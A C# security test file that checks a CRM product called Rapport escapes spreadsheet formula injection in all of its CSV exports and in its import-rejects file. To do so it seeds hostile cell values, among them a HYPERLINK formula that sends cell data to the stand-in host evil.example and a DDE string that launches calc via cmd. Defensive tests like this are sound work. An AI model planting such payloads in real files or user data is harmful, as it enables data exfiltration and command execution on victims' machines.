using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using Rapport.Identity;
using Rapport.Tests.Exports;
using Rapport.Tests.Imports;
using Rapport.Tests.Infrastructure;

namespace Rapport.Tests.Security;

/// <summary>
/// CSV formula injection through every CSV the product writes: text a person typed that starts with <c>=</c>, <c>+</c>,
/// <c>-</c>, <c>@</c>, tab or carriage return must never reach a spreadsheet as a formula. Numbers Rapport formats
/// itself (a negative amount) are the only cells allowed to start with <c>-</c>.
/// </summary>
public sealed partial class CsvInjectionTests(RapportAppFactory app) : IClassFixture<RapportAppFactory>
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

    [Fact]
    public async Task No_csv_download_carries_a_live_formula_from_text_people_typed()
    {
        var admin = app.ClientAs(Role.Admin);
        var tag = ExportKit.Unique("csvinj");
        var field = ExportKit.Unique("note_");
        (await admin.PostAsJsonAsync("/api/v1/custom-fields", new { key = field, label = "Note", type = "text" })).EnsureSuccessStatusCode();
        var customer = await ExportKit.CustomerAsync(admin, new
        {
            firstName = Formula, lastName = "+SUM(1,2)", email = $"{tag}@example.com", phone = "+44 20 7946 0000",
            street = "-2+3", city = "@SUM(A1)", postalCode = "\tX1", country = "GB", tags = new[] { tag, "=cmd|' /C calc'!A0" },
            customFields = new Dictionary<string, object> { [field] = "=1+1" },
        });
        await ExportKit.TransactionAsync(admin, customer, "=EXT()", app.Clock.GetUtcNow().AddDays(-3), null,
            new { sku = "@SKU", description = "=2*3", quantity = 1, unitPrice = 10 });
        await ExportKit.InteractionAsync(admin, customer, "email", "email", app.Clock.GetUtcNow().AddDays(-2), subject: "-Subject", notes: "=IMPORTXML(\"x\")");

        var segment = await admin.PostAsJsonAsync("/api/v1/segments", new { name = "=Segment", kind = "static", rules = new { all = new object[] { new { field = "tag", op = "eq", value = tag } } } });
        segment.StatusCode.Should().Be(HttpStatusCode.Created, await segment.Content.ReadAsStringAsync());
        var segmentId = (await segment.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetInt64();

        // An import whose rejected row carries formulas: the rejects file is opened in a spreadsheet to fix it.
        using var form = new MultipartFormDataContent();
        var file = new ByteArrayContent(Encoding.UTF8.GetBytes($"email,first_name,last_name\nnot-an-email,=EVIL(),@Bad\n"));
        file.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
        form.Add(file, "file", "hostile.csv");
        form.Add(new StringContent("customers"), "kind");
        var upload = await admin.PostAsync("/api/v1/imports", form);
        upload.StatusCode.Should().Be(HttpStatusCode.Accepted, await upload.Content.ReadAsStringAsync());
        var importId = (await upload.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetInt64();
        (await ImportKit.WaitForApiAsync(admin, importId)).GetProperty("rejected").GetInt64().Should().Be(1);

        var downloads = new[]
        {
            $"/api/v1/exports/customers?format=csv&tag={tag}",
            $"/api/v1/exports/transactions?format=csv&customerId={customer}",
            $"/api/v1/exports/transactions?format=csv&lines=true&customerId={customer}",
            $"/api/v1/exports/interactions?format=csv&customerId={customer}",
            $"/api/v1/segments/{segmentId}/members.csv",
            $"/api/v1/imports/{importId}/rejects",
        };
        var problems = new List<string>();
        var neutralised = 0;
        foreach (var url in downloads)
        {
            var response = await admin.GetAsync(url);
            response.StatusCode.Should().Be(HttpStatusCode.OK, url);
            var (header, rows) = ExportKit.ParseCsv(await response.Content.ReadAsByteArrayAsync());
            rows.Should().NotBeEmpty("{0} has the hostile rows", url);
            foreach (var cell in header.Concat(rows.SelectMany(r => r)))
            {
                if (cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r' && !Number().IsMatch(cell))
                {
                    problems.Add($"{url}: live formula cell «{cell}»");
                }

                neutralised += cell.Length > 1 && cell[0] == '\'' && cell[1] is '=' or '+' or '-' or '@' or '\t' ? 1 : 0;
            }
        }

        problems.Should().BeEmpty();
        neutralised.Should().BeGreaterThan(10, "the hostile text is there, shown as text");
    }

    [GeneratedRegex(@"^-?\d+(\.\d+)?$")]
    private static partial Regex Number();
}
